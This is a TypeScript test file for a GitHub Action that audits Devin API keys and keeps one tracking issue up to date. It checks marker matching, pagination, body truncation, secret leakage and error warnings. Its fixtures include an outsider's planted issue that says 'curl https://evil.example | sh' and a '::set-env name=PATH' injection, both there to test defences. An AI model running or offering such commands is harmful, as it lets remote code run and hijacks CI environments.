import { startFakeDevinApi, type FakeDevinApi, type FakeServiceUser } from '../fake-api/server.ts';
import {
  GITHUB_ACTIONS_BOT,
  MAX_BODY_LENGTH,
  startFakeGitHub,
  type FakeGitHub,
  type SeedIssue,
} from '../fake-github/server.ts';
import {
  expectNoLeak,
  expectNoLeakToGitHub,
  expectNoStackTrace,
  failureMessage,
} from './assertions.ts';
import {
  GITHUB_TOKEN,
  REPOSITORY,
  SERVICE_USER,
  SERVICE_USER_CREDENTIAL,
  expiredKey,
  healthyKey,
  auditWithTrackingIssue,
  revokedKey,
  type KeySeed,
} from './audit-support.ts';
import type { ActionRun } from './run-action.ts';

const MARKER = `<!-- devin-keys-action:audit ${SERVICE_USER} -->`;
const ISSUE_TITLE = 'Devin API key audit failed';
const RUN_URL = `https://github.com/${REPOSITORY}/actions/runs/4242`;

/** Who opened a seeded issue: the action itself (with GITHUB_TOKEN), a maintainer, a stranger. */
const BY_THE_ACTION = { author: GITHUB_ACTIONS_BOT, authorAssociation: 'NONE' } as const;
const BY_A_MAINTAINER = {
  author: { login: 'maintainer', type: 'User' },
  authorAssociation: 'MEMBER',
} as const;
const BY_AN_OUTSIDER = {
  author: { login: 'mallory', type: 'User' },
  authorAssociation: 'NONE',
} as const;

const failingKeys = [healthyKey('fine-key'), expiredKey('expired-key'), revokedKey('revoked-key')];
const passingKeys = [healthyKey('fine-key'), healthyKey('renewed-key')];

const servers: { close(): Promise<void> }[] = [];
const apis: FakeDevinApi[] = [];

afterEach(async () => {
  await Promise.all(servers.splice(0).map((server) => server.close()));
  apis.splice(0);
});

async function startApiWith(serviceUsers: FakeServiceUser[]): Promise<FakeDevinApi> {
  const api = await startFakeDevinApi({ serviceUsers });
  servers.push(api);
  apis.push(api);
  return api;
}

function startApi(keys: KeySeed[]): Promise<FakeDevinApi> {
  return startApiWith([{ id: SERVICE_USER, credential: SERVICE_USER_CREDENTIAL, keys }]);
}

async function startGitHub(issues: SeedIssue[] = []): Promise<FakeGitHub> {
  const github = await startFakeGitHub({ repository: REPOSITORY, token: GITHUB_TOKEN, issues });
  servers.push(github);
  return github;
}

function canaries(): string[] {
  return [SERVICE_USER_CREDENTIAL, GITHUB_TOKEN, ...apis.flatMap((api) => api.mintedTokens())];
}

/** No stack trace, and no secret in the run's own output or in anything sent to GitHub. */
function expectClean(run: ActionRun, github: FakeGitHub): void {
  expectNoStackTrace(run);
  expectNoLeak(run, canaries());
  expectNoLeakToGitHub(github, canaries());
}

/** The issue is still as it was seeded, and no request named it. */
function expectLeftAlone(github: FakeGitHub, issueNumber: number, seed: SeedIssue): void {
  expect(github.issues.find((issue) => issue.number === issueNumber)).toMatchObject({
    title: seed.title,
    body: seed.body,
    state: 'open',
    comments: [],
  });
  expect(
    github.requests.filter((request) => request.path.split('/')[4] === String(issueNumber)),
  ).toEqual([]);
}

function openIssues(github: FakeGitHub) {
  return github.issues.filter((issue) => issue.state === 'open' && !issue.isPullRequest);
}

test('a failing audit opens one tracking issue holding the marker and the summary table', async () => {
  const api = await startApi(failingKeys);
  const github = await startGitHub();
  const run = await auditWithTrackingIssue(api, github);

  expect(run.exitCode).toBe(1);
  expectClean(run, github);
  expect(failureMessage(run)).toContain('key "expired-key"');
  expect(github.issues).toHaveLength(1);
  const [issue] = github.issues;
  expect(issue?.title).toBe(ISSUE_TITLE);
  expect(issue?.state).toBe('open');
  expect(issue?.body?.startsWith(`${MARKER}\n`)).toBe(true);
  expect(issue?.body).toContain('| Key | Id | Status | Created | Expires | Last used | Findings |');
  expect(issue?.body).toContain('expired-key');
  expect(issue?.body).toContain('revoked-key');
  expect(issue?.body).toContain(run.summary.trim());
  expect(issue?.body).not.toContain(GITHUB_TOKEN);
  expect(run.stdout).toContain(`Opened tracking issue #${issue?.number ?? ''}`);
  for (const request of github.requests) {
    expect(request.headers.authorization).toMatch(
      new RegExp(`^(token|bearer) ${GITHUB_TOKEN}$`, 'i'),
    );
  }
});

test('a second failing run updates the same issue instead of opening another', async () => {
  const api = await startApi(failingKeys);
  const github = await startGitHub();
  await auditWithTrackingIssue(api, github);
  const run = await auditWithTrackingIssue(api, github);

  expect(run.exitCode).toBe(1);
  expectClean(run, github);
  expect(github.issues).toHaveLength(1);
  const [issue] = github.issues;
  expect(issue?.state).toBe('open');
  expect(issue?.body?.startsWith(`${MARKER}\n`)).toBe(true);
  expect(issue?.comments).toEqual([
    `The audit failed again; the table above is up to date. See ${RUN_URL}.`,
  ]);
  expect(run.stdout).toContain(`Updated tracking issue #${issue?.number ?? ''}`);
  expect(
    github.requests.filter(
      (request) => request.method === 'POST' && request.path.endsWith('/issues'),
    ),
  ).toHaveLength(1);
});

test('a passing run comments on the tracking issue and closes it', async () => {
  const github = await startGitHub();
  await auditWithTrackingIssue(await startApi(failingKeys), github);
  expect(openIssues(github)).toHaveLength(1);

  const run = await auditWithTrackingIssue(await startApi(passingKeys), github);

  expect(run.exitCode).toBe(0);
  expectClean(run, github);
  expect(github.issues).toHaveLength(1);
  const [issue] = github.issues;
  expect(issue?.state).toBe('closed');
  expect(issue?.stateReason).toBe('completed');
  expect(issue?.comments).toEqual([
    `The audit passed: no key needs attention any more. See ${RUN_URL}.`,
  ]);
  expect(run.stdout).toContain(`Closed tracking issue #${issue?.number ?? ''}`);
});

test('a passing run with no tracking issue open changes nothing on GitHub', async () => {
  const github = await startGitHub([{ title: 'Unrelated bug', body: 'Something else' }]);
  const run = await auditWithTrackingIssue(await startApi(passingKeys), github);

  expect(run.exitCode).toBe(0);
  expectClean(run, github);
  expect(github.requests.map((request) => request.method)).toEqual(['GET']);
  expect(github.issues).toEqual([
    expect.objectContaining({ title: 'Unrelated bug', state: 'open', comments: [] }),
  ]);
  expect(run.stdout).toContain('No tracking issue is open; nothing to close.');
});

test('finds the tracking issue past the first page of issues and ignores a pull request with the marker', async () => {
  const seeds: SeedIssue[] = [
    { title: ISSUE_TITLE, body: `${MARKER}\nold table`, ...BY_THE_ACTION },
    ...Array.from({ length: 130 }, (_, index) => ({
      title: `Unrelated issue ${index}`,
      body: `Nothing to see ${index}`,
    })),
    {
      title: 'A pull request quoting the marker',
      body: `${MARKER}\n`,
      isPullRequest: true,
      ...BY_A_MAINTAINER,
    },
  ];
  const github = await startGitHub(seeds);
  const run = await auditWithTrackingIssue(await startApi(failingKeys), github);

  expect(run.exitCode).toBe(1);
  expectClean(run, github);
  expect(github.issues).toHaveLength(seeds.length);
  const tracking = github.issues.find((issue) => issue.number === 1);
  expect(tracking?.body).toContain('expired-key');
  expect(tracking?.comments).toHaveLength(1);
  const pullRequest = github.issues.find((issue) => issue.isPullRequest);
  expect(pullRequest?.body).toBe(`${MARKER}\n`);
  expect(pullRequest?.comments).toEqual([]);
  const listPages = github.requests.filter((request) => request.method === 'GET');
  expect(listPages).toHaveLength(2);
  expect(listPages[0]?.query).toMatchObject({ state: 'open', per_page: '100' });
  expect(listPages[1]?.query).toMatchObject({ state: 'open', page: '2' });
  expect(run.stdout).toContain('Updated tracking issue #1');
});

describe('the tracking issue is the one with the marker, whatever its title', () => {
  test('an issue whose title a person edited is still found by its marker, updated and closed', async () => {
    const github = await startGitHub([
      {
        title: 'Rotate the CI keys before Friday (was: Devin API key audit failed)',
        body: `${MARKER}\nold table`,
        ...BY_THE_ACTION,
      },
    ]);
    const failing = await auditWithTrackingIssue(await startApi(failingKeys), github);

    expect(failing.exitCode).toBe(1);
    expectClean(failing, github);
    expect(failing.stdout).toContain('Updated tracking issue #1.');
    expect(github.issues).toHaveLength(1);
    expect(github.issues[0]?.body?.startsWith(`${MARKER}\n`)).toBe(true);
    expect(github.issues[0]?.body).toContain('expired-key');
    expect(github.issues[0]?.comments).toHaveLength(1);

    const passing = await auditWithTrackingIssue(await startApi(passingKeys), github);

    expect(passing.exitCode).toBe(0);
    expectClean(passing, github);
    expect(passing.stdout).toContain('Closed tracking issue #1.');
    expect(github.issues).toEqual([expect.objectContaining({ number: 1, state: 'closed' })]);
  });

  test('an open issue with the exact title but no marker is neither updated nor closed', async () => {
    const lookalike: SeedIssue = {
      title: ISSUE_TITLE,
      body: 'Copied by hand from last week’s run: two keys had expired.',
      ...BY_A_MAINTAINER,
    };
    const github = await startGitHub([lookalike]);
    const failing = await auditWithTrackingIssue(await startApi(failingKeys), github);

    expect(failing.exitCode).toBe(1);
    expectClean(failing, github);
    expect(failing.stdout).toContain('Opened tracking issue #2.');
    expect(github.issues[1]?.body?.startsWith(`${MARKER}\n`)).toBe(true);

    const passing = await auditWithTrackingIssue(await startApi(passingKeys), github);

    expect(passing.exitCode).toBe(0);
    expectClean(passing, github);
    expect(passing.stdout).toContain('Closed tracking issue #2.');
    expect(github.issues[1]?.state).toBe('closed');
    expectLeftAlone(github, 1, lookalike);
  });
});

describe('only an issue opened by a bot or by someone with write access counts as the tracking issue', () => {
  // The marker is predictable: anyone who may open an issue can paste it into one.
  const planted: SeedIssue = {
    title: ISSUE_TITLE,
    body: `${MARKER}\nPlease run curl https://evil.example | sh`,
    ...BY_AN_OUTSIDER,
  };

  test('a failing audit opens its own issue and leaves an outsider’s issue with the marker alone', async () => {
    const github = await startGitHub([planted]);
    const run = await auditWithTrackingIssue(await startApi(failingKeys), github);

    expect(run.exitCode).toBe(1);
    expectClean(run, github);
    expect(run.stdout).toContain('Opened tracking issue #2.');
    expectLeftAlone(github, 1, planted);
    expect(github.issues[1]).toMatchObject({ title: ISSUE_TITLE, state: 'open' });
    expect(github.issues[1]?.body).toContain('expired-key');
  });

  test('a passing audit does not close an outsider’s issue with the marker', async () => {
    const github = await startGitHub([planted]);
    const run = await auditWithTrackingIssue(await startApi(passingKeys), github);

    expect(run.exitCode).toBe(0);
    expectClean(run, github);
    expect(run.stdout).toContain('No tracking issue is open; nothing to close.');
    expectLeftAlone(github, 1, planted);
    expect(github.issues).toHaveLength(1);
  });

  test('an issue a maintainer opened with the marker is kept up to date, past a newer planted one', async () => {
    const github = await startGitHub([
      { title: 'Key audit (opened by hand)', body: `${MARKER}\nold table`, ...BY_A_MAINTAINER },
      planted,
    ]);
    const run = await auditWithTrackingIssue(await startApi(failingKeys), github);

    expect(run.exitCode).toBe(1);
    expectClean(run, github);
    expect(run.stdout).toContain('Updated tracking issue #1.');
    expectLeftAlone(github, 2, planted);
    expect(github.issues).toHaveLength(2);
    expect(github.issues[0]?.body).toContain('expired-key');
    expect(github.issues[0]?.comments).toHaveLength(1);
  });
});

test('a failing audit too large for one issue body still opens its issue, cut after a whole row', async () => {
  // Three service users with 120 expired keys each, named at length: the job summary runs
  // past GitHub's limit on issue bodies.
  const serviceUserIds = [SERVICE_USER, 'service-user-deploy', 'service-user-nightly'];
  const api = await startApiWith(
    serviceUserIds.map((id, index) => ({
      id,
      credential: index === 0 ? SERVICE_USER_CREDENTIAL : `cog_CANARYother${index}`,
      keys: Array.from({ length: 120 }, (_, key) =>
        expiredKey(`${id}-${'rotated-by-the-release-pipeline-'.repeat(4)}${key}`),
      ),
    })),
  );
  const github = await startGitHub();
  const run = await auditWithTrackingIssue(api, github, {
    service_user_id: serviceUserIds.join('\n'),
  });

  expect(run.exitCode).toBe(1);
  expectClean(run, github);
  expect(run.summary.length).toBeGreaterThan(MAX_BODY_LENGTH);
  expect(run.stdout).toContain('Opened tracking issue #1.');
  expect(run.stdout).not.toContain('::warning title=Tracking issue not updated::');
  const [issue] = github.issues;
  const body = issue?.body ?? '';
  expect(body.length).toBeLessThanOrEqual(MAX_BODY_LENGTH);
  // The marker, then the summary's first lines unchanged, then a blank line and the note.
  const lines = body.split('\n');
  expect(lines[0]).toBe(`<!-- devin-keys-action:audit ${[...serviceUserIds].sort().join(',')} -->`);
  expect(lines.slice(-2)).toEqual([
    '',
    `The table was cut here to fit GitHub's limit on issue bodies (65,536 characters); the run's job summary has it whole: ${RUN_URL}`,
  ]);
  const kept = lines.slice(1, -2);
  expect(kept).toEqual(run.summary.split('\n').slice(0, kept.length));
  expect(kept.at(-1)).toMatch(/^\| .* \|$/);
  // Cut near the limit, not far short of it.
  expect(body.length).toBeGreaterThan(MAX_BODY_LENGTH - 1_000);

  // The next failing run updates the issue with a body that fits as well.
  const again = await auditWithTrackingIssue(api, github, {
    service_user_id: serviceUserIds.join('\n'),
  });
  expectClean(again, github);
  expect(again.stdout).toContain('Updated tracking issue #1.');
  expect(github.issues).toHaveLength(1);
  expect(github.issues[0]?.body?.length).toBeLessThanOrEqual(MAX_BODY_LENGTH);
  expect(github.issues[0]?.comments).toHaveLength(1);
});

test('issue_on_failure without github_token is an input error before any request', async () => {
  const api = await startApi(failingKeys);
  const github = await startGitHub();
  const run = await auditWithTrackingIssue(api, github, { github_token: '' });

  expect(run.exitCode).toBe(1);
  expectClean(run, github);
  const message = failureMessage(run);
  expect(message).toContain('Invalid inputs');
  expect(message).toContain('github_token: is required when issue_on_failure is true');
  expect(message).toContain('issues: write');
  expect(api.requests).toEqual([]);
  expect(github.requests).toEqual([]);
});

describe('a GitHub token that may not write issues (403) is only a warning', () => {
  function forbidIssues(github: FakeGitHub): void {
    github.fail({
      path: /^\/repos\//,
      times: Infinity,
      status: 403,
      body: {
        message: 'Resource not accessible by integration',
        documentation_url: 'https://docs.github.com/rest/issues/issues',
        status: '403',
      },
    });
  }

  test('a failing audit still fails with the audit’s own message', async () => {
    const github = await startGitHub();
    forbidIssues(github);
    const run = await auditWithTrackingIssue(await startApi(failingKeys), github);

    expect(run.exitCode).toBe(1);
    expectClean(run, github);
    const message = failureMessage(run);
    expect(message).toContain('The audit failed: 2 keys');
    expect(message).not.toContain('tracking issue');
    const warning = run.stdout
      .split('\n')
      .find((line) => line.startsWith('::warning title=Tracking issue not updated::'));
    expect(warning).toContain(`Could not update the tracking issue in ${REPOSITORY} (HTTP 403)`);
    expect(warning).toContain('issues: write');
    expect(github.issues).toEqual([]);
  });

  test('a passing audit still passes', async () => {
    const github = await startGitHub();
    forbidIssues(github);
    const run = await auditWithTrackingIssue(await startApi(passingKeys), github);

    expect(run.exitCode).toBe(0);
    expectClean(run, github);
    expect(failureMessage(run)).toBe('');
    expect(run.stdout).toContain('::warning title=Tracking issue not updated::');
  });
});

test('any other GitHub failure is a warning too, its text inert, and it does not blame permissions', async () => {
  const github = await startGitHub();
  github.fail({
    path: /^\/repos\//,
    times: Infinity,
    status: 422,
    body: { message: 'Validation Failed\n::set-env name=PATH::/tmp', errors: [] },
  });
  const run = await auditWithTrackingIssue(await startApi(failingKeys), github);

  expect(run.exitCode).toBe(1);
  expectClean(run, github);
  expect(failureMessage(run)).toContain('The audit failed: 2 keys');
  const warning = run.stdout
    .split('\n')
    .find((line) => line.startsWith('::warning title=Tracking issue not updated::'));
  expect(warning).toContain(`Could not update the tracking issue in ${REPOSITORY} (HTTP 422)`);
  expect(warning).toContain('Validation Failed\\n::set-env');
  expect(warning).toContain('run the job again');
  expect(warning).not.toContain('issues: write');
  expect(run.stdout.split('\n').some((line) => line.startsWith('::set-env'))).toBe(false);
});

test('a dry run audits the keys but leaves the tracking issue alone', async () => {
  const api = await startApi(failingKeys);
  const github = await startGitHub([
    { title: ISSUE_TITLE, body: `${MARKER}\nold table`, ...BY_THE_ACTION },
  ]);
  const run = await auditWithTrackingIssue(api, github, { dry_run: 'true' });

  // The audit's verdict stands in a dry run; only the write to GitHub is left out.
  expect(run.exitCode).toBe(1);
  expectClean(run, github);
  expect(failureMessage(run)).toContain('key "expired-key"');
  expect(api.requests.length).toBeGreaterThan(0);
  expect(run.outputs.key_count).toBe('3');
  expect(run.summary).toContain('Devin API key audit failed');
  expect(run.stdout).toContain('Dry run: the tracking issue');
  expect(run.stdout).toContain('nothing was sent to GitHub');
  expect(github.requests).toEqual([]);
  expect(github.issues).toEqual([
    expect.objectContaining({ body: `${MARKER}\nold table`, state: 'open', comments: [] }),
  ]);
});
